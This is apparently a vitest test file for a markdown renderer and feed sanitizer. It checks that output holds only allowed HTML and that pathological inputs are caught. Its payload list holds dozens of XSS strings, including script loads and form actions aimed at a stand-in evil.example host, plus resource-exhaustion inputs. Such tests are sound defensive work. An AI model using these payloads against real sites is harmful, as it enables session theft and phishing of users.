import { readFileSync } from 'node:fs'
import fc from 'fast-check'
import type { Element, Root, RootContent } from 'hast'
import rehypeRaw from 'rehype-raw'
import { unified } from 'unified'
import { describe, expect, test } from 'vitest'
import { laidOut } from '@/e2e/support/laid-out'
import { recordings } from '@/e2e/support/recordings'
import { markupFault } from '@/lib/status/text/markup-fault'
import { rememberLaidOut } from '@/lib/wire/markdown/laid-out'
import { layOutMarkdown } from '@/lib/wire/markdown/lay-out-markdown'
import { markdownText, renderMarkdown } from '@/lib/wire/markdown/markdown'
import { feedBody } from './feed-body'

const tags = (
  'p div br hr ul ol li dl dt dd blockquote pre code kbd samp strong b em i u s del ins sub sup small mark ' +
  'table caption thead tbody tfoot tr th td a h4 h5 h6'
).split(' ')
const attributes: Record<string, string[]> = {
  a: ['href', 'title', 'rel'],
  ol: ['start'],
  td: ['align'],
  th: ['align'],
}
const parser = unified().use(rehypeRaw).freeze()

/** Everything that a browser would find in the HTML and that must not be there. */
function forbidden(html: string): string[] {
  const tree = parser.runSync({ type: 'root', children: [{ type: 'raw', value: html }] } as Root) as Root
  return tree.children.flatMap(forbiddenIn)
}

function forbiddenIn(node: RootContent | Element['children'][number]): string[] {
  if (node.type === 'text') return []
  if (node.type !== 'element') return [node.type]
  const wrong = Object.entries(node.properties).filter(([name, value]) => {
    if (!attributes[node.tagName]?.includes(name)) return true
    return name === 'href' && !/^(https?:\/\/|mailto:|tel:)/i.test(String(value))
  })
  return [
    ...(tags.includes(node.tagName) ? [] : [`<${node.tagName}>`]),
    ...wrong.map(([name, value]) => `${node.tagName}[${name}=${value}]`),
    ...(node.tagName === 'a' && String(node.properties.rel) !== 'nofollow,noopener' ? ['a without rel'] : []),
    ...node.children.flatMap(forbiddenIn),
  ]
}

const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://i.example/x.png" onload=alert(1) style="position:fixed">',
  '<p onclick="alert(1)">x</p>',
  '<b onmouseover=alert(1)//',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="https://ok.example" ping="https://evil.example" id=x class=y style=z>x</a>',
  '[x](javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](https://ok.example "onclick=\\"alert(1)")',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](https://i.example/x.png)',
  '<javascript:alert(1)>',
  '[a]: javascript:alert(1)\n\n[a]',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<form action="https://evil.example"><input name=password><button>x</button></form>',
  '<input type=text autofocus onfocus=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example"></object><embed src=x>',
  '<style>*{display:none}</style>',
  '<p style="background:url(https://evil.example)">x</p>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<html><body onload=alert(1)><p>x',
  '<video><source onerror=alert(1)></video><audio src=x autoplay>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><script>alert(1)</script>',
  '<title><script>alert(1)</script></title>',
  '<xmp><img src=x onerror=alert(1)></xmp><plaintext>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '```js onclick=alert(1)\nx\n```',
  '<table><tr><td><form><script>alert(1)</script></td></tr></table>',
  '</p></div></main><h1>out</h1>',
  '<p><a href="https://a.example"><a href="javascript:alert(1)">x</a></a>',
  '<a href="https://a.example',
  '<ul><li><b><i><script>unclosed',
  '# x {onclick=alert(1)}\n\n<h2 id="page" class="x">y</h2>',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '- [x] <img src=x onerror=alert(1)>',
  'https://x.example/"onmouseover="alert(1)',
  'https://x.example/<script>alert(1)</script>',
  'a@b.example"onclick=alert(1)',
  '\u0000<scr\u0000ipt>alert(1)</script>',
  '\ud800<b>\udc00',
  '<select><option><script>alert(1)</script></option></select>',
  '<custom-element onclick=alert(1)>x</custom-element>',
]

describe('nothing but allowed elements and attributes comes out of', () => {
  test.each(payloads)('%j', (payload) => {
    for (const text of [payload, `before ${payload} after`, `> - ${payload}`, `**${payload}**`, payload.repeat(3)]) {
      expect(forbidden(renderMarkdown(laidOut(text)))).toEqual([])
      expect(forbidden(feedBody(text))).toEqual([])
      expect(typeof markdownText(text)).toBe('string')
    }
  })

  test.each([1, 2, 3, 4])('any mixture of them, part %s of four', () => {
    const piece = fc.oneof(
      fc.constantFrom(...payloads),
      fc.constantFrom(...'<>"\'`&;/\n*_[]()!'),
      fc.string({ maxLength: 5 }),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        const text = pieces.join('')
        expect(forbidden(renderMarkdown(laidOut(text)))).toEqual([])
        expect(forbidden(feedBody(text))).toEqual([])
      }),
      { numRuns: 250 },
    )
  })
})

const filled = (pattern: string, length: number) => pattern.repeat(Math.ceil(length / pattern.length)).slice(0, length)
const table = (columns: number, rows: number) =>
  `${'|a'.repeat(columns)}|\n${'|-'.repeat(columns)}|\n${'|\n'.repeat(rows)}`
const indented = (levels: number, length: number) =>
  filled(Array.from({ length: levels }, (_, i) => `${' '.repeat(i * 2)}- a\n`).join(''), length)
const limit = 25_000

describe('what would take long is told by its part, before anything is parsed', () => {
  test.each<[string, string, RegExp]>([
    ['underlined headings', filled('a\n=\n', limit), /6,250 underlined headings/],
    ['headings underlined with dashes', filled('a\n---\n', limit), /underlined headings/],
    ['emphasis in turns', filled('_a*', limit), /paragraph near line 1 has 16,667 marks of emphasis/],
    ['emphasis that never closes', filled('*a_ ', limit), /marks of emphasis/],
    ['strikes', filled('~~a', limit), /marks of emphasis/],
    ['emphasis on many lines', filled('**a _b\n', limit), /marks of emphasis/],
    ['emphasis behind a harmless part', `Hello.\n\nWell.\n\n${filled('_a*', 9000)}`, /paragraph near line 5 /],
    ['opening brackets', filled('[', limit), /25,000 opening brackets/],
    ['images that are none', filled('![', limit), /opening brackets/],
    ['links that never end', filled('[a](', limit), /opening brackets/],
    ['references', filled('[a][b]', limit), /opening brackets/],
    ['a table of 6 KB', table(1000, 1000).slice(0, 6000), /table near line 1 has 999,000 cells/],
    ['a table of 25 KB', table(4000, 9000), /table near line 1 has 36,004,000 cells/],
    ['a table of one column', `|a|\n|-|\n${'b\n'.repeat(5000)}`, /cells/],
    ['a table in a quote', `> |a|b|\n> |-|-|\n${'> |\n'.repeat(3000)}`, /quoted lines|cells/],
    ['a table in a list', `- |a|b|\n  |-|-|\n${'  |\n'.repeat(3000)}`, /table near line 1 has/],
    ['a table with colons alone', `a|b\n:-:|:-:\n${'c\n'.repeat(3000)}`, /table near line 1 has/],
    ['many small tables', `${table(40, 40)}\n`.repeat(10), /table near line/],
    ['quotes in quotes', filled('> ', limit), /line 1 is more than 12 quotes and lists deep/],
    ['quotes without spaces', `a\n\n${filled('>', 500)}`, /line 3 is more than 12/],
    ['lists in lists on one line', filled('- ', limit), /line 1 is more than 12/],
    ['numbers in numbers', filled('1. ', limit), /line 1 is more than 12/],
    ['many quotes', filled('> a\n\n', limit), /quoted lines/],
    ['quotes and lazy lines', filled('>a\nb\n', limit), /quoted lines/],
    ['list items', filled('- a\n', limit), /list items, headings and rules/],
    ['numbered items', filled('1. a\n', limit + 4000), /list items/],
    ['headings', filled('# a\n', limit), /list items, headings/],
    ['rules', filled('***\n\n', limit + 8000), /list items, headings and rules|marks/],
    ['bold tags', filled('<b>', limit), /line 1 is more than 40 HTML elements deep/],
    ['tags that others close', filled('<b></i>', limit), /HTML elements deep/],
    ['divisions', `${'a\n'.repeat(6)}${filled('<div>\n', limit)}`, /line 127 is more than 120 HTML/],
    ['tags that are opened again in each paragraph', filled('<b title=1><p>', limit), /HTML elements deep/],
    ['tags that never end', filled('<a ', limit), /HTML elements deep/],
    ['attributes that never end', filled('<a b=', limit), /HTML elements deep/],
    ['comments that never end', filled('<!-- ', limit), /5,000 comments that do not end/],
    ['too many characters', 'a'.repeat(100_001), /longer than 100,000/],
  ])('%s', (_, text, why) => {
    expect(layOutMarkdown(text)).toEqual({ plain: expect.stringMatching(why) })
    // and what stands all the same is shown with all its words, in linear time, marks as typed
    const shown = renderMarkdown(laidOut(text))
    expect(shown.startsWith('<p>')).toBe(true)
    expect(forbidden(shown)).toEqual([])
    expect(markdownText(text).length).toBeGreaterThan(0)
  })
})

describe('what looks dangerous and is not is laid out, no larger than it must be', () => {
  test.each<[string, string]>([
    ['angle brackets', filled('<', limit)],
    ['backticks', filled('`', limit)],
    ['longer and longer backticks', Array.from({ length: 220 }, (_, i) => '`'.repeat(i)).join(' ')],
    ['addresses', filled('https://x.example/ ', limit)],
    ['addresses of mail', filled('a@b.example ', limit)],
    ['half addresses', filled('a@', limit)],
    ['entities', filled('&amp;', limit)],
    ['ampersands', filled('&', limit)],
    ['numeric entities', filled('&#x41;', limit)],
    ['comments', filled('<!-- --> ', limit)],
    ['backslashes', filled('\\', limit)],
    ['closing brackets in an address', `https://x.example/${filled(')', limit)}`],
    ['spaces', `${' '.repeat(limit)}a`],
    ['spaces between', filled('a                    ', limit)],
    ['tabs and lines', filled('a\t\n', limit)],
    ['empty paragraphs', filled('<p>', limit)],
    ['items of HTML', `<ul>${filled('<li>a', limit)}</ul>`],
    ['lists twelve deep', indented(12, limit)],
    ['lists that go deeper and deeper', indented(150, limit)],
    ['type parameters', filled('a List<String> of words, ', 3000)],
    ['one word', filled('a', limit)],
    [
      'a postmortem of a hundred thousand characters',
      filled('We saw **slow** [payouts](https://x.example).\n\n- a\n- b\n\n', 100_000).slice(0, 60_000),
    ],
    ['a table as people make them', `${table(8, 0)}${'|a|b|c|d|e|f|g|h|\n'.repeat(200)}`],
  ])('%s', (_, text) => {
    const made = layOutMarkdown(text)
    if ('plain' in made) expect(made.plain).toMatch(/too deep/)
    rememberLaidOut(text, made)
    const html = renderMarkdown(text)
    expect(html.length).toBeLessThan(20 * text.length + 1000)
    expect(forbidden(html)).toEqual([])
    expect(feedBody(text).length).toBeLessThan(20 * text.length + 1000)
  })
})

test('all recorded bodies are far from every limit', () => {
  const files = ['summary', 'incidents', 'webhooks'].flatMap((folder) => recordings(folder))
  const bodies = files.flatMap(({ file }) => bodiesIn(JSON.parse(readFileSync(file, 'utf8'))))
  expect(bodies.length).toBeGreaterThan(30)
  for (const body of bodies) expect(markupFault(body.repeat(5))).toBeNull()
})

function bodiesIn(value: unknown): string[] {
  if (typeof value !== 'object' || value === null) return []
  return Object.entries(value).flatMap(([key, one]) =>
    typeof one === 'string' ? (key === 'body' || key === 'postmortem_body' ? [one] : []) : bodiesIn(one),
  )
}
